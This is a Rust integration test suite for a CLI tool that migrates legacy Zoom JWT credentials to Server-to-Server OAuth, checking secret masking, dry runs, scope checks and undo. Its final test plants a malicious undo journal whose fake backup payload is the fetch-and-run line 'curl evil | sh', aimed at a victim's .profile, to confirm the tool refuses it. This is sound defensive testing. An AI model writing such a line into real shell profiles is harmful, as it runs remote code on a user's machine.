//! `s2s migrate scan|apply|undo` on a copy of a legacy project from the corpus.

mod support;

use std::path::Path;

use support::{run, s2s, Run, ACCOUNT, REPORTING};

fn project(cases: &[&str]) -> tempfile::TempDir {
    let dir = tempfile::tempdir().expect("tempdir");
    let corpus = Path::new(env!("CARGO_MANIFEST_DIR")).join("../s2s-migrate/tests/fixtures");
    for case in cases {
        support::copy_dir(&corpus.join(case), &dir.path().join(case));
    }
    dir
}

async fn s2s_in(dir: &Path, args: &[&str]) -> Run {
    let mut cmd = s2s();
    cmd.current_dir(dir).args(args);
    run(cmd, None).await
}

#[tokio::test]
async fn scan_apply_undo_round_trip_without_leaking_the_secret() {
    let dir = project(&["docker-compose", "python-app"]);
    let compose = dir.path().join("docker-compose/docker-compose.yml");
    let original = std::fs::read(&compose).expect("read");

    let scanned = s2s_in(dir.path(), &["migrate", "scan", ".", "--plan", "plan.json"]).await;
    assert_eq!(scanned.code, 0, "{}", scanned.all());
    assert!(
        scanned.stdout.contains("Legacy JWT credentials: 4"),
        "{}",
        scanned.stdout
    );
    assert!(
        scanned.stdout.contains("user:read:list_users:admin"),
        "{}",
        scanned.stdout
    );

    // The new app is tested first; it must cover the calls found (listing users, deleting
    // meetings): the Sandbox's Reporting Bot gets the one scope it lacks.
    let sim = support::sim().await;
    sim.world()
        .app_mut(REPORTING.0)
        .expect("app")
        .scopes
        .push("meeting:delete:meeting:admin".into());
    let mut cmd = s2s();
    cmd.current_dir(dir.path())
        .env("ZOOM_CLIENT_SECRET", REPORTING.1)
        .args([
            "migrate",
            "apply",
            "plan.json",
            "--oauth-url",
            &sim.base_url(),
            "--account-id",
            ACCOUNT,
            "--client-id",
            REPORTING.0,
            "--report",
            "report.md",
            "--json",
        ]);
    let applied = run(cmd, None).await;
    assert_eq!(applied.code, 0, "{}", applied.all());
    assert_eq!(applied.json()["tested"], true);
    let journal = applied.json()["journal"]
        .as_str()
        .expect("journal")
        .to_string();
    let migrated = std::fs::read_to_string(&compose).expect("read");
    assert!(
        migrated.contains(&format!("ZOOM_ACCOUNT_ID: {ACCOUNT}")),
        "{migrated}"
    );
    let report = std::fs::read_to_string(dir.path().join("report.md")).expect("report");
    assert!(report.contains("tested before writing"), "{report}");
    for text in [
        scanned.all(),
        applied.all(),
        report.clone(),
        std::fs::read_to_string(dir.path().join("plan.json")).expect("plan"),
    ] {
        assert!(
            !text.contains("LegacySecretValue0123456789") && !text.contains(REPORTING.1),
            "secret leaked: {text}"
        );
    }
    assert!(report.contains("docker-compose/docker-compose.yml"));

    let undone = s2s_in(dir.path(), &["migrate", "undo", &journal]).await;
    assert_eq!(undone.code, 0, "{}", undone.all());
    assert_eq!(std::fs::read(&compose).expect("read"), original);
}

#[tokio::test]
async fn a_dry_run_writes_nothing_and_missing_ids_are_bad_input() {
    let dir = project(&["dotenv-tricky"]);
    let env = dir.path().join("dotenv-tricky/.env");
    let original = std::fs::read(&env).expect("read");
    assert_eq!(
        s2s_in(
            dir.path(),
            &["migrate", "scan", ".", "--plan", "plan.json", "--json"]
        )
        .await
        .code,
        0
    );
    let dry = s2s_in(
        dir.path(),
        &[
            "migrate",
            "apply",
            "plan.json",
            "--account-id",
            "A1234567890123456789012",
            "--client-id",
            "C1234567890123456789012",
            "--dry-run",
        ],
    )
    .await;
    assert_eq!(dry.code, 0, "{}", dry.all());
    assert!(
        dry.stdout
            .contains("+ZOOM_CLIENT_ID=C1234567890123456789012"),
        "{}",
        dry.stdout
    );
    assert_eq!(std::fs::read(&env).expect("read"), original);
    let missing = s2s_in(dir.path(), &["migrate", "apply", "plan.json"]).await;
    assert_eq!(missing.code, 2, "{}", missing.all());
    assert!(missing.stderr.contains("--account-id"), "{}", missing.all());
    let not_a_plan = s2s_in(
        dir.path(),
        &[
            "migrate",
            "apply",
            "dotenv-tricky/.env",
            "--account-id",
            "a",
            "--client-id",
            "c",
        ],
    )
    .await;
    assert_eq!(not_a_plan.code, 2);
    assert!(
        not_a_plan.stderr.contains("not a migration plan"),
        "{}",
        not_a_plan.all()
    );
}

#[tokio::test]
async fn the_plan_is_owner_only_and_write_secret_previews_show_no_secret_on_kubernetes() {
    let dir = project(&["kubernetes"]);
    let scanned = s2s_in(
        dir.path(),
        &[
            "migrate",
            "scan",
            "kubernetes",
            "--plan",
            "plan.json",
            "--json",
        ],
    )
    .await;
    assert_eq!(scanned.code, 0, "{}", scanned.all());
    #[cfg(unix)]
    {
        use std::os::unix::fs::PermissionsExt;
        let mode = std::fs::metadata(dir.path().join("plan.json"))
            .expect("plan")
            .permissions()
            .mode();
        assert_eq!(
            mode & 0o777,
            0o600,
            "the plan names where the old secrets are"
        );
    }
    let plan = std::fs::read_to_string(dir.path().join("plan.json")).expect("plan");
    assert!(
        !plan.contains("LegacyApiKey0123456789"),
        "the API key (a JWT's issuer) is masked in the plan"
    );
    // The shipped Kubernetes case with --write-secret panicked and printed the secret.
    let mut cmd = s2s();
    cmd.current_dir(dir.path())
        .env("ZOOM_ACCOUNT_ID", "NewAccountId0123456789")
        .env("ZOOM_CLIENT_ID", "NewClientId01234567890")
        .env("ZOOM_CLIENT_SECRET", "BrandNewClientSecret0123")
        .args([
            "migrate",
            "apply",
            "plan.json",
            "--write-secret",
            "--dry-run",
        ]);
    let dry = run(cmd, None).await;
    assert_eq!(dry.code, 0, "{}", dry.all());
    assert!(
        !dry.all().contains("BrandNewClientSecret0123"),
        "{}",
        dry.all()
    );
    assert!(!dry.all().contains("panicked"), "{}", dry.all());
}

/// A scanned copy of the node app (its calls need `user:read:list_users:admin` and more).
async fn scanned_node_app() -> (tempfile::TempDir, Vec<u8>) {
    let dir = project(&["node-app"]);
    let scanned = s2s_in(dir.path(), &["migrate", "scan", ".", "--plan", "plan.json"]).await;
    assert_eq!(scanned.code, 0, "{}", scanned.all());
    let before = configs_of(dir.path());
    (dir, before)
}

fn configs_of(dir: &Path) -> Vec<u8> {
    let mut all = Vec::new();
    for entry in walk(dir) {
        if !entry.contains("plan.json") {
            all.extend(std::fs::read(&entry).unwrap_or_default());
        }
    }
    all
}

fn walk(dir: &Path) -> Vec<String> {
    let mut out = Vec::new();
    for e in std::fs::read_dir(dir).expect("dir").flatten() {
        let p = e.path();
        if p.is_dir() {
            out.extend(walk(&p));
        } else {
            out.push(p.display().to_string());
        }
    }
    out.sort();
    out
}

async fn apply_with(
    dir: &Path,
    sim: &zoom_sim::SimHandle,
    app: (&str, &str),
    extra: &[&str],
) -> Run {
    let mut cmd = s2s();
    cmd.current_dir(dir)
        .env("ZOOM_CLIENT_SECRET", app.1)
        .args([
            "migrate",
            "apply",
            "plan.json",
            "--oauth-url",
            &sim.base_url(),
        ])
        .args(["--account-id", ACCOUNT, "--client-id", app.0])
        .args(extra);
    run(cmd, None).await
}

#[tokio::test]
async fn apply_refuses_an_app_whose_token_fails_with_test_tokens_exit_code() {
    let sim = support::sim().await;
    let (dir, before) = scanned_node_app().await;
    let wrong = apply_with(
        dir.path(),
        &sim,
        (REPORTING.0, "sandboxSecretWRONGWRONGWRONGWRONG"),
        &[],
    )
    .await;
    assert_eq!(wrong.code, 3, "{}", wrong.all());
    let archived = apply_with(
        dir.path(),
        &sim,
        ("SbxArchived00000000006", "sandboxSecretArchived00000000006"),
        &[],
    )
    .await;
    assert_eq!(archived.code, 4, "{}", archived.all());
    assert_eq!(configs_of(dir.path()), before, "nothing was written");
}

#[tokio::test]
async fn apply_refuses_an_app_short_of_the_scopes_the_calls_need() {
    let sim = support::sim().await;
    let (dir, before) = scanned_node_app().await;
    // A user-level app: its token works, but holds no admin scope for the calls found.
    let personal = ("SbxPersonal00000000004", "sandboxSecretPersonal00000000004");
    let short = apply_with(dir.path(), &sim, personal, &[]).await;
    assert_eq!(short.code, 5, "{}", short.all());
    assert!(short.stderr.contains("not ready"), "{}", short.all());
    assert_eq!(configs_of(dir.path()), before, "nothing was written");

    // --skip-test writes anyway, and the report says it was not tested.
    let skipped = apply_with(
        dir.path(),
        &sim,
        personal,
        &["--skip-test", "--report", "report.md"],
    )
    .await;
    assert_eq!(skipped.code, 0, "{}", skipped.all());
    let report = std::fs::read_to_string(dir.path().join("report.md")).expect("report");
    assert!(report.contains("not tested"), "{report}");
}

#[tokio::test]
async fn the_verification_token_is_flagged_and_becomes_the_secret_token_from_the_environment_when_secrets_are_written(
) {
    let dir = project(&["webhook-verification"]);
    let scanned = s2s_in(dir.path(), &["migrate", "scan", ".", "--plan", "plan.json"]).await;
    assert_eq!(scanned.code, 0, "{}", scanned.all());
    assert!(
        scanned
            .stdout
            .contains("webhook Verification Token (deprecated)"),
        "{}",
        scanned.stdout
    );
    assert!(!scanned.stdout.contains("vErIfIcAtIoNtOkEn1234"), "masked");
    let mut apply = s2s();
    apply
        .current_dir(dir.path())
        .env("ZOOM_WEBHOOK_SECRET_TOKEN", "newSecretToken0001")
        .env("ZOOM_CLIENT_SECRET", "newClientSecret0123456789abcdef0")
        .args([
            "migrate",
            "apply",
            "plan.json",
            "--account-id",
            "A1234567890123456789012",
            "--client-id",
            "C1234567890123456789012",
            "--skip-test",
            "--write-secret",
        ]);
    let applied = run(apply, None).await;
    assert_eq!(applied.code, 0, "{}", applied.all());
    assert!(
        !applied.all().contains("newSecretToken0001"),
        "never printed"
    );
    let env =
        std::fs::read_to_string(dir.path().join("webhook-verification/config.env")).expect("read");
    assert!(
        env.contains("ZOOM_WEBHOOK_SECRET_TOKEN=newSecretToken0001"),
        "{env}"
    );
    assert!(!env.contains("ZOOM_VERIFICATION_TOKEN"), "{env}");
    let json =
        std::fs::read_to_string(dir.path().join("webhook-verification/config/settings.json"))
            .expect("read");
    assert!(
        json.contains("\"ZOOM_WEBHOOK_SECRET_TOKEN\": \"newSecretToken0001\""),
        "{json}"
    );
    let code = std::fs::read_to_string(dir.path().join("webhook-verification/src/server.js"))
        .expect("read");
    assert!(
        code.contains("req.headers.authorization"),
        "code is left for the admin, with guidance"
    );
}

fn sha256(bytes: &[u8]) -> String {
    s2s_migrate::scan::sha256_hex(bytes)
}

/// A project shipped by someone else, holding a journal that names `root` and `backup_dir`, and
/// a "backup" of `file` with `payload`, claiming the target now holds `target_now`.
fn planted_journal(
    project: &Path,
    root: &Path,
    backup_dir: &Path,
    file: &str,
    payload: &[u8],
    target_now: &[u8],
) -> std::path::PathBuf {
    let stamp = project.join(".s2s-desk-migration/1700000000-1");
    std::fs::create_dir_all(&stamp).expect("mkdir");
    std::fs::create_dir_all(backup_dir).expect("mkdir");
    std::fs::write(backup_dir.join(file), payload).expect("payload");
    let journal = serde_json::json!({
        "root": root, "backup_dir": backup_dir, "applied_unix": 1_700_000_000,
        "files": [{"file": file, "sha256_before": sha256(payload), "sha256_after": sha256(target_now)}],
    });
    let path = stamp.join("journal.json");
    std::fs::write(&path, journal.to_string()).expect("journal");
    path
}

#[tokio::test]
async fn undo_never_writes_outside_the_project_the_journal_lies_in() {
    // See: issue 24, defect 3 — undo trusted `root` and `backup_dir` inside the journal.
    let home = tempfile::tempdir().expect("a victim's home");
    let profile = home.path().join(".profile");
    std::fs::write(&profile, "export PATH=$HOME/bin:$PATH\n").expect("write");
    let before = std::fs::read(&profile).expect("read");
    let shipped = tempfile::tempdir().expect("an untrusted repository");
    let cases = [
        // The journal names the victim's home as the project, and its own backups.
        (home.path().to_path_buf(), shipped.path().join("evil")),
        // The journal names the right project but backups elsewhere.
        (shipped.path().to_path_buf(), home.path().join("backups")),
    ];
    for (root, backup_dir) in cases {
        let journal = planted_journal(
            shipped.path(),
            &root,
            &backup_dir,
            ".profile",
            b"curl evil | sh\n",
            &before,
        );
        let mut cmd = s2s();
        cmd.current_dir(shipped.path())
            .arg("migrate")
            .arg("undo")
            .arg(&journal);
        let undone = run(cmd, None).await;
        assert_eq!(undone.code, 2, "{}", undone.all());
        assert!(
            undone.stderr.contains("names another project"),
            "{}",
            undone.stderr
        );
        assert_eq!(
            std::fs::read(&profile).expect("read"),
            before,
            "the victim's file is untouched"
        );
        assert!(
            !shipped.path().join(".profile").exists(),
            "nothing written anywhere"
        );
    }
}
